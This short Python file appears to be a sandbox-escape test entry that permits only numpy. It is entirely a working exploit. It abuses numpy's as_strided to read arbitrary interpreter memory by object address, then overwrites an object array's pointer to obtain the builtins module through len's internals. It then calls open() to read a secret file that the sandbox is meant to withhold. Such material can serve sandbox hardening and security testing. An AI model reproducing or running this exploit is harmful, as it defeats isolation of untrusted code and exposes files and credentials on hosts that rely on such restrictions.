"""Reaches any memory by the strides of an array, and writes an object where none was."""
# wants: read
# allows: numpy

import numpy as np
from numpy.lib.stride_tricks import as_strided

own = bytes(8)


def word(address):
    start = np.frombuffer(own, dtype="u8")
    return int(as_strided(start, shape=(2,), strides=(address - id(own) - 32,))[1])


def fit_and_eval(data):
    held = np.array([None], dtype=object)
    start = np.zeros(1, dtype="u8")
    far = word(id(held) + 16) - word(id(start) + 16)
    as_strided(start, shape=(2,), strides=(far,))[1] = word(id(len) + 24)
    return {"got": held[0].open(data["secret"]).read()}
